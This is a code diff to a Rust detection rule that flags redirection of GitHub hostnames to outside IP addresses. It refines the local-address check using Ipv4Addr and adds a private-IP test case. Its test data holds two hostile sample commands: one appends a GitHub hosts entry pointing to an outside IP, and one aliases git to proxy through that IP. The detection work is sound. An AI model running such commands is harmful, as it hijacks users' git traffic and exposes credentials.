@@ -6,6 +6,7 @@ use crate::finding::{Category, Severity};
 use crate::layers::rule_engine::reading::{Hit, Reading};
 use crate::layers::rule_engine::rule::{Kind, Rule, When};
 use crate::layers::rule_engine::signal::Signal;
+use std::net::Ipv4Addr;
 
 /// Somebody's key is to be let in.
 static KEY_LET_IN: Signal = Signal::phrase(
@@ -375,14 +376,16 @@ pub(super) static RULES: &[Rule] = &[
         when: When::Any(&[&TOOL_LED, &NAME_LED]),
         guard: Some(led_away),
         hits: &["```bash\necho '45.61.136.85 github.com api.github.com' | sudo tee -a /etc/hosts\n```\n", "@a.sh\necho 'alias git=\"git -c http.proxy=http://45.61.136.85:80\"' >> ~/.bashrc\n"],
-        misses: &["```bash\necho '127.0.0.1 github.com' >> /etc/hosts\n```\n", "```bash\nalias git='git --no-pager'\n```\n"],
+        misses: &["```bash\necho '127.0.0.1 github.com' >> /etc/hosts\n```\n", "```bash\necho '172.20.0.3 github.com' >> /etc/hosts\n```\n", "```bash\nalias git='git --no-pager'\n```\n"],
         ..Rule::BASE
     },
 ];
 
 /// Names may be led to this machine: that blocks them, or tests something.
 fn led_away(reading: &Reading<'_>, hit: &Hit) -> u32 {
-    let text = hit.span.of(reading.text);
-    let here = ["127.", "0.0.0.0", "10.", "192.168."].iter().any(|own| text.starts_with(own));
+    let address = hit.span.of(reading.text).split(|c: char| c != '.' && !c.is_ascii_digit()).next();
+    let here = address.and_then(|address| address.parse::<Ipv4Addr>().ok()).is_some_and(|address| {
+        address.is_private() || address.is_loopback() || address.is_unspecified()
+    });
     if here { 0 } else { judges::in_code(reading, hit) }
 }
